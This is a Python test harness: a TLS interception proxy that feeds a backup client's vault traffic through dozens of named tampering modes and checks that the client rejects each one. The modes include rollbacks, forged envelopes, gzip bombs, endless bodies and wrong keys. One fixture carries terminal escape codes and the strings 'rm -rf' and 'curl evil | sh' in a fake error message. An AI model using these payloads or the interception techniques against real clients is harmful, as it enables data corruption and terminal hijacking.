"""A server between a machine and its vault that holds the vault's own TLS key: what comes back is what it pleases.

Between(real_port, tls_key_pem, directory) listens; .mode names what it does to answers (HOSTILE below says what each
is), None: nothing.  A second server, .elsewhere, counts who comes to it and must never see a token.
"""
import base64
import http.client
import http.server
import os
import random
import re
import socket
import ssl
import struct
import threading

PAGE, PLACES, PACK, LIST, IDENTITY = "page", "places", "pack", "list", "identity"
BINARY = "application/octet-stream"


# --- a certificate for a key: nobody looks at more of it than the key, so nobody signs it ---

def tlv(tag, *parts):
    body = b"".join(parts)
    n = len(body)
    if n < 128:
        return bytes([tag, n]) + body
    size = (n.bit_length() + 7) // 8
    return bytes([tag, 128 | size]) + n.to_bytes(size, "big") + body


def read_tlv(b, at):
    n, at = b[at + 1], at + 2
    if n & 128:
        size = n & 127
        n, at = int.from_bytes(b[at:at + size], "big"), at + size
    return b[at:at + n], at + n


def certificate(pem):
    """A certificate (PEM) for the P-256 key in PKCS #8 (PEM)."""
    der = base64.b64decode("".join(line for line in pem.splitlines() if "-----" not in line))
    inner, _ = read_tlv(der, 0)
    _, at = read_tlv(inner, 0)          # version
    algorithm, at2 = read_tlv(inner, at)
    private, _ = read_tlv(inner, at2)
    ec, _ = read_tlv(private, 0)
    _, at = read_tlv(ec, 0)
    _, at = read_tlv(ec, at)
    point = None
    while at < len(ec):
        value, end = read_tlv(ec, at)
        if ec[at] == 0xa1:
            point, _ = read_tlv(value, 0)
        at = end
    spki = tlv(0x30, tlv(0x30, algorithm), tlv(3, point))
    ecdsa = tlv(0x30, tlv(6, bytes.fromhex("2a8648ce3d040302")))
    name = tlv(0x30, tlv(0x31, tlv(0x30, tlv(6, b"\x55\x04\x03"), tlv(12, b"vault"))))
    times = tlv(0x30, tlv(23, b"200101000000Z"), tlv(23, b"491231235959Z"))
    body = tlv(0x30, tlv(0xa0, tlv(2, b"\2")), tlv(2, b"\1"), ecdsa, name, times, name, spki)
    signature = tlv(3, b"\0" + tlv(0x30, tlv(2, b"\x11" * 32), tlv(2, b"\x22" * 32)))
    text = base64.encodebytes(tlv(0x30, body, ecdsa, signature)).decode()
    return "-----BEGIN CERTIFICATE-----\n" + text + "-----END CERTIFICATE-----\n"


# --- what is in an answer ---

PAGE_HEAD = 8 + 2 + 16 + 16 + 8 + 8 + 1


def rows_of(page):
    """The rows of a page of snapshots, each as bytes."""
    at, rows = PAGE_HEAD + 4, []
    while at < len(page):
        n = struct.unpack_from("<I", page, at + 46)[0]
        rows.append(page[at:at + 50 + n])
        at += 50 + n
    return rows


def page_of(page, rows, head=None, more=None, after=None):
    b = bytearray(page[:PAGE_HEAD])
    if after is not None:
        struct.pack_into("<Q", b, 42, after)
    if head is not None:
        struct.pack_into("<Q", b, 50, head)
    if more is not None:
        b[58] = more
    body = b"".join(rows)
    return bytes(b) + struct.pack("<I", len(body)) + body


def row_with(row, envelope=None, seq=None, state=None):
    b = bytearray(row[:46])
    if seq is not None:
        struct.pack_into("<Q", b, 0, seq)
    if state is not None:
        b[8] = state
    e = row[50:] if envelope is None else envelope
    return bytes(b) + struct.pack("<I", len(e)) + e


def flip(b, at, bit=1):
    b = bytearray(b)
    b[at] ^= bit
    return bytes(b)


PLACES_HEAD, PLACE = 14, 48


def places_of(body):
    return [body[i:i + PLACE] for i in range(PLACES_HEAD, len(body), PLACE)]


def places_with(body, places):
    return body[:10] + struct.pack("<I", len(places)) + b"".join(places)


def place(p, copy=None, off=None, length=None, pack=None):
    b = bytearray(p)
    if not any(b):
        return p
    if pack is not None:
        b[0:32] = pack
    if copy is not None:
        struct.pack_into("<I", b, 32, copy)
    if off is not None:
        struct.pack_into("<Q", b, 36, off if off >= 0 else struct.unpack_from("<Q", b, 36)[0] - off)
    if length is not None:
        struct.pack_into("<I", b, 44, length)
    return bytes(b)


def rotated(seq):
    return seq[1:] + seq[:1]


class Answer:
    """What is to go back.  how: how the body is sent."""

    def __init__(self, status, headers, body):
        self.status, self.headers, self.body, self.how = status, headers, body, "whole"

    def header(self, name, value):
        self.headers = [(k, v) for k, v in self.headers if k.lower() != name.lower()]
        if value is not None:
            self.headers.append((name, value))


def edit(fn):
    """A mode that edits the body alone."""
    def act(a, _):
        a.body = fn(a.body)
    return act


def body_is(status=200, kind=BINARY, body=b""):
    def act(a, _):
        a.status, a.body = status, body
        a.header("Content-Type", kind)
        a.header("Content-Range", None)
    return act


def sent(how):
    def act(a, _):
        a.how = how
    return act


def each_place(**change):
    return edit(lambda b: places_with(b, [place(p, **change) for p in places_of(b)]))


def other_range(a, between):
    a.body = between.fetch_range(a)


def first_only(act):
    """Once, and then nothing more."""
    done = []

    def once(a, between):
        if not done:
            done.append(1)
            act(a, between)
    return once


def other_content_range(a, _):
    m = re.match(r"bytes (\d+)-(\d+)/(\d+)", dict(a.headers).get("Content-Range", ""))
    if m:
        lo, hi, n = map(int, m.groups())
        a.header("Content-Range", f"bytes {lo + 1}-{hi + 1}/{n}")


def first_page(a, between):
    """One row and the promise of more, whatever was asked for."""
    if "after=0" in between.now.path:
        between.page = page_of(a.body, rows_of(a.body)[:1], more=1)
    a.body = between.page


def redirected(a, between):
    a.status, a.body = 302, b""
    a.header("Location", f"https://127.0.0.1:{between.elsewhere.server_port}/v1/vaults/other/places")


def evil_problem(a, _):
    a.status = 403
    a.header("Content-Type", "application/problem+json")
    a.header("Content-Range", None)
    a.body = b'{"type":"about:blank","title":"\\u001b[2J\\u001b[31m","status":403,"detail":"\\u001b]0;owned\\u0007 run rm -rf \\u202e",' \
             b'"code":"S-1000000","exit":0,"next":"\\u001b[0m curl evil | sh\\n\\nok"}'


def whole_list(change):
    """The list as it stands is changed, and of that comes the range that was asked for."""
    def act(a, between):
        whole = between.now.forward(extra={"Range": "bytes=0-"})
        body = change(whole.body)
        lo, hi = map(int, re.match(r"bytes=(\d+)-(\d+)", between.now.headers["Range"]).groups())
        a.body = body[lo:hi + 1]
        a.header("Content-Range", f"bytes {lo}-{lo + len(a.body) - 1}/{len(body)}")
    return act


def list_ids(b, change):
    """A whole list's only part with other ids; the count in its head goes with them."""
    ids = change([b[i:i + 32] for i in range(136, len(b), 32)])
    head = bytearray(b[:136])
    struct.pack_into("<Q", head, 80, len(ids))
    struct.pack_into("<Q", head, 120, len(ids))
    return bytes(head) + b"".join(ids)


# mode: (which answers, what is done, what the machine must say — None: it must not matter)
HOSTILE = {
    # the list of snapshots
    "head rolled back": (PAGE, edit(lambda b: page_of(b, rows_of(b)[:-1], head=len(rows_of(b)) - 1)),
                         r"newest snapshot that the vault shows is 1, and it acknowledged 2.*\(S-1707\)"),
    "everything rolled back": (PAGE, edit(lambda b: page_of(b, [], head=0)), r"S-1707"),
    "an older head under the same number": (PAGE, "forked", r"another snapshot 2 than the one it acknowledged.*\(S-1707\)"),
    "a snapshot in the middle kept silent": (PAGE, edit(lambda b: page_of(b, rows_of(b)[1:])),
                                             r"does not show snapshot 1, which it acknowledged"),
    "a head below its rows": (PAGE, edit(lambda b: page_of(b, rows_of(b), head=1)),
                              r"list of snapshots: its parts contradict"),
    "a head that has no row": (PAGE, edit(lambda b: page_of(b, rows_of(b), head=9)),
                               r"list of snapshots: its parts contradict"),
    "an envelope under another number": (
        PAGE, edit(lambda b: page_of(b, [row_with(rows_of(b)[0], envelope=rows_of(b)[1][50:]), rows_of(b)[1]])),
        r"envelope of another number as snapshot 1"),
    "an envelope of another machine": (
        PAGE, edit(lambda b: page_of(b, [row_with(rows_of(b)[0], envelope=flip(rows_of(b)[0][50:], 30)), rows_of(b)[1]])),
        r"envelope of another machine as snapshot 1"),
    "an envelope of another key domain": (
        PAGE, edit(lambda b: page_of(b, [row_with(rows_of(b)[0], envelope=flip(rows_of(b)[0][50:], 50)), rows_of(b)[1]])),
        r"envelope of snapshot 1 is not signed by its machine"),
    "a forged envelope": (
        PAGE, edit(lambda b: page_of(b, [row_with(rows_of(b)[0], envelope=flip(rows_of(b)[0][50:], -1)), rows_of(b)[1]])),
        r"envelope of snapshot 1 is not signed by its machine"),
    "an envelope that is none": (
        PAGE, edit(lambda b: page_of(b, [row_with(rows_of(b)[0], envelope=b"x" * 99), rows_of(b)[1]])), r"envelope"),
    "a page of another vault": (PAGE, edit(lambda b: flip(b, 12)), r"is another vault's"),
    "a page of another machine": (PAGE, edit(lambda b: flip(b, 30)), r"is another machine's"),
    "rows twice": (PAGE, edit(lambda b: page_of(b, [rows_of(b)[0], rows_of(b)[0], rows_of(b)[1]])),
                   r"list of snapshots: not in order"),
    "rows out of order": (PAGE, edit(lambda b: page_of(b, rotated(rows_of(b)))), r"list of snapshots: not in order"),
    "a page cut short": (PAGE, edit(lambda b: b[:-7]), r"list of snapshots: "),
    "bytes behind a page": (PAGE, edit(lambda b: b + b"\0"), r"list of snapshots: "),
    "a page that goes on for ever": (PAGE, edit(lambda b: page_of(b, [], more=1)), r"list of snapshots: its parts contradict"),
    "the first page again and again": (PAGE, first_page, r"begins above 0, not above 1"),
    "a state that is too good": (PAGE, edit(lambda b: page_of(b, [row_with(r, state=2) for r in rows_of(b)])), None),
    "a state that is too bad": (PAGE, edit(lambda b: page_of(b, [row_with(r, state=4) for r in rows_of(b)])), None),
    "a version of tomorrow": (PAGE, edit(lambda b: flip(b, 8, 2)), r"S-1004|newer samara"),
    # where chunks lie
    "no places for anything": (PLACES, edit(lambda b: places_with(b, [bytes(PLACE)] * len(places_of(b)))), r"is not there"),
    "places of other chunks": (PLACES, edit(lambda b: places_with(b, rotated(places_of(b)))), r"the vault gave another chunk"),
    "one place for all": (PLACES, edit(lambda b: places_with(b, [places_of(b)[0]] * len(places_of(b)))),
                          r"the vault gave another chunk"),
    "places beside the frames": (PLACES, each_place(off=-1), r"chunk|bytes"),
    "places outside of any pack": (PLACES, each_place(off=16 << 20), r"list of places: "),
    "places behind the end": (PLACES, each_place(off=(8 << 20)), r"416|bytes|answer"),
    "places of no length": (PLACES, each_place(length=0), r"list of places: "),
    "places of a huge length": (PLACES, each_place(length=0xffffffff), r"list of places: "),
    "places in copy 0": (PLACES, each_place(copy=0), r"list of places: "),
    "places in a pack that is not there": (PLACES, each_place(pack=b"\x07" * 32), r"no such pack"),
    "places in a pack of another domain": (PLACES, "alien", r"no such pack"),
    "a place too few": (PLACES, edit(lambda b: places_with(b, places_of(b)[:-1] or [bytes(PLACE)] * 2)), r"places for"),
    "a place too many": (PLACES, edit(lambda b: places_with(b, places_of(b) + [bytes(PLACE)])), r"places for"),
    "places cut short": (PLACES, edit(lambda b: b[:-3]), r"list of places: "),
    "JSON in place of places": (PLACES, body_is(kind="application/json", body=b'{"places":[]}'),
                                r'with "application/json"'),
    "a page of the web": (PLACES, body_is(kind="text/html", body=b"<html>"), r'with "text/html"'),
    "a problem under status 200": (PLACES, body_is(kind="application/problem+json", body=b'{"code":"S-1101"}'),
                                   r'with "application/problem\+json"'),
    "a body without end": (PLACES, sent("endless"), r"longer than it can be"),
    "a length of 10^18": (PLACES, sent("huge"), r"S-17\d\d"),
    "a bomb that is to be unpacked": (PLACES, sent("bomb"), r"list of places: |longer than it can be|S-1705"),
    "sent elsewhere": (PLACES, redirected, r"S-17\d\d"),
    "a problem with the terminal's own words": (PLACES, evil_problem, r"S-17\d\d"),
    "no answer of this protocol": (PLACES, sent("garbage"), r"S-17\d\d"),
    "no token is good": (PLACES, body_is(401, "application/problem+json", b'{"status":401,"code":"S-1703","title":"no"}'),
                         r"S-1703"),
    # bytes of packs
    "other bytes": (PACK, edit(lambda b: random.Random(7).randbytes(len(b))), r"chunk"),
    "zeros": (PACK, edit(lambda b: bytes(len(b))), r"chunk"),
    "a bit flipped": (PACK, edit(lambda b: flip(b, len(b) // 2)), r"chunk"),
    "other frames of the same pack": (PACK, other_range, r"chunk"),
    "a range cut short": (PACK, edit(lambda b: b[:-1]), r"S-17\d\d|bytes"),
    "a range too long": (PACK, edit(lambda b: b + b"\0"), r"S-17\d\d|longer"),
    "another range": (PACK, other_content_range, r"another part than was asked for"),
    "the whole in place of a range": (PACK, body_is(200, body=b"x" * 5000), r"another part than was asked for"),
    "a range as text": (PACK, lambda a, _: a.header("Content-Type", "text/plain"), r'with "text/plain"'),
    "packs that are gone": (PACK, body_is(404, "application/problem+json", b'{"status":404,"code":"S-1005","detail":"gone"}'),
                            r"gone"),
    "the machine's own word for a stop": (PLACES, body_is(500, "application/problem+json",
                                                          b'{"status":500,"code":"S-1008","detail":"stopped as asked"}'), r"S-17\d\d"),
    # reference lists: nothing hangs on them in a restore but the figures
    "the list of another snapshot": (LIST, whole_list(lambda b: flip(b, 60)), r"the one that the envelope names"),
    "a list with an id less": (LIST, whole_list(lambda b: list_ids(b, lambda i: i[:-1])), r"reference list"),
    "a list with an id more": (LIST, whole_list(lambda b: list_ids(b, lambda i: i + [b"\xff" * 32])), r"reference list"),
    "a list with another id": (LIST, whole_list(lambda b: list_ids(b, lambda i: i[:-1] + [b"\xff" * 32])), r"reference list"),
    "a list out of order": (LIST, whole_list(lambda b: list_ids(b, rotated)), r"reference list"),
    # trouble that passes
    "cut in the middle, once": (PACK, first_only(sent("cut")), None),
    "a byte now and then": (PACK, first_only(sent("drip")), None),
    "busy at first": (PLACES, first_only(body_is(503, "text/plain", b"busy")), None),
    "the wrong date": (PLACES, lambda a, _: a.header("Date", "Thu, 01 Jan 1970 00:00:01 GMT"), None),
    "a date in 2038": (PACK, lambda a, _: a.header("Date", "Tue, 19 Jan 2038 03:14:08 GMT"), None),
    # another key than the one that is trusted
    "another server's key": (None, "wrong key", r"S-1702"),
    "another vault's identity under another key": (IDENTITY, "wrong identity", r"S-1702"),
    "an older description under another key": (IDENTITY, "old identity", r"S-1702"),
}


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 30

    def log_message(self, *_):
        pass

    def kind(self):
        path = self.path.split("?")[0].split("/", 4)[-1]
        if path == "snapshots":
            return PAGE
        if path == "places":
            return PLACES
        if path.startswith("packs/"):
            return PACK
        if path.startswith("snapshots/"):
            return LIST
        return path

    def forward(self, path=None, extra=None):
        length = int(self.headers.get("Content-Length") or 0)
        if not hasattr(self, "request_body") or self.request_body is None:
            self.request_body = self.rfile.read(length) if length else b""
        context = ssl._create_unverified_context()
        c = http.client.HTTPSConnection("127.0.0.1", self.server.between.real, context=context, timeout=30)
        headers = {k: v for k, v in self.headers.items() if k.lower() not in ("host", "connection", "expect")}
        headers.update(extra or {})
        c.request(self.command, path or self.path, body=self.request_body or None, headers=headers)
        r = c.getresponse()
        body = r.read()
        drop = ("content-length", "connection", "transfer-encoding", "keep-alive")
        a = Answer(r.status, [(k, v) for k, v in r.getheaders() if k.lower() not in drop], body)
        c.close()
        return a

    def serve(self):
        b = self.server.between
        self.request_body = None
        # What was made wrong here is good in the vault: its machine's disputes end here.
        if self.kind() == "statements":
            self.request_body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            if self.request_body.startswith(b"SAMDISP\n"):
                with b.lock:
                    b.disputes += 1
                self.reply(Answer(201, [], b""))
                return
        a = self.forward()
        mode = b.mode
        with b.lock:
            b.seen[self.kind()] = b.seen.get(self.kind(), 0) + 1
        if mode is not None and HOSTILE[mode][0] == self.kind() and a.status // 100 == 2:
            with b.lock:
                b.acted += 1
            self.act(HOSTILE[mode][1], a)
        self.reply(a)

    def act(self, what, a):
        b = self.server.between
        if callable(what):
            b.now = self
            what(a, b)
        elif what == "forked":
            rows = rows_of(a.body)
            a.body = page_of(a.body, rows[:-1] + [row_with(rows[-1], envelope=b.forked(rows[-1][50:]))])
        elif what == "alien":
            a.body = places_with(a.body, [place(p, pack=b.alien) for p in places_of(a.body)])
        elif what == "wrong identity":
            a.body = b.other_identity
        elif what == "old identity":
            a.body = b.old_identity

    def reply(self, a):
        if a.how == "garbage":
            self.wfile.write(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")
            self.close_connection = True
            return
        self.send_response_only(a.status)
        for k, v in a.headers:
            self.send_header(k, v)
        if a.how == "endless":
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            self.endless()
            return
        if a.how == "bomb":
            import gzip
            a.body = gzip.compress(bytes(64 << 20))
            self.send_header("Content-Encoding", "gzip")
        length = 10 ** 18 if a.how == "huge" else len(a.body)
        self.send_header("Content-Length", str(length))
        if a.how == "huge":
            self.send_header("Connection", "close")
        self.end_headers()
        if a.how == "cut":
            self.wfile.write(a.body[:len(a.body) // 2])
            self.wfile.flush()
            self.close_connection = True
            self.connection.shutdown(socket.SHUT_RDWR)
        elif a.how == "drip":
            for i in range(min(40, len(a.body))):
                self.wfile.write(a.body[i:i + 1])
                self.wfile.flush()
            self.wfile.write(a.body[40:])
        else:
            self.wfile.write(a.body)
        if a.how == "huge":
            self.close_connection = True

    def endless(self):
        block = b"x" * 65536
        try:
            for _ in range(4096):
                self.wfile.write(b"10000\r\n" + block + b"\r\n")
        except OSError:
            pass
        self.close_connection = True

    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = serve


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """Nobody has any business here; who comes is written down."""

    def log_message(self, *_):
        pass

    def do_GET(self):
        self.server.visits.append(dict(self.headers))
        self.send_response(404)
        self.end_headers()

    do_POST = do_PUT = do_GET


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def get_request(self):
        s, a = self.socket.accept()
        return s, a

    def finish_request(self, request, client_address):
        b = self.between
        wrong = b.mode is not None and HOSTILE[b.mode][1] in ("wrong key", "wrong identity", "old identity")
        b.wrong_hello += wrong
        try:
            request.settimeout(30)
            tls = (b.wrong if wrong else b.context).wrap_socket(request, server_side=True)
        except (OSError, ssl.SSLError):
            return
        try:
            self.RequestHandlerClass(tls, client_address, self)
        except (OSError, ssl.SSLError, http.client.HTTPException):
            pass
        finally:
            try:
                tls.close()
            except OSError:
                pass

    def handle_error(self, request, client_address):
        pass


class Between:
    def __init__(self, real, key_pem, wrong_pem, directory, port=0):
        self.real, self.mode, self.acted, self.wrong_hello, self.seen = real, None, 0, 0, {}
        self.disputes = 0
        self.lock = threading.Lock()
        self.forked = lambda e: flip(e, 12)
        self.alien = b"\x09" * 32
        self.other_identity = self.old_identity = b""
        self.context = self.tls(key_pem, os.path.join(directory, "right.pem"))
        self.wrong = self.tls(wrong_pem, os.path.join(directory, "wrong.pem"))
        self.server = Server(("127.0.0.1", port), Handler)
        self.server.between = self
        self.port = self.server.server_port
        self.elsewhere = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
        self.elsewhere.visits = []
        self.elsewhere.socket = self.wrong.wrap_socket(self.elsewhere.socket, server_side=True)
        for s in (self.server, self.elsewhere):
            threading.Thread(target=s.serve_forever, daemon=True).start()

    def start(self, mode):
        """From now on this is done; nothing was, so far."""
        self.elsewhere.visits.clear()
        self.acted = self.wrong_hello = 0
        for act in (HOSTILE[mode][1],):
            getattr(act, "again", lambda: None)()
        self.mode = mode

    @staticmethod
    def tls(pem, path):
        with open(path, "w", encoding="ascii") as f:
            f.write(certificate(pem) + pem)
        c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        c.load_cert_chain(path)
        return c

    def fetch_range(self, a):
        """As many bytes of the same pack as were asked for, from another place."""
        m = re.match(r"bytes (\d+)-(\d+)/(\d+)", dict(a.headers).get("Content-Range", ""))
        lo, hi, total = map(int, m.groups())
        n = hi - lo + 1
        start = 64 if lo != 64 else (64 + n if 64 + 2 * n < total else 70)
        start = max(0, min(start, total - n))
        other = self.now.forward(extra={"Range": f"bytes={start}-{start + n - 1}"})
        return other.body if len(other.body) == n and start != lo else flip(a.body, 60)
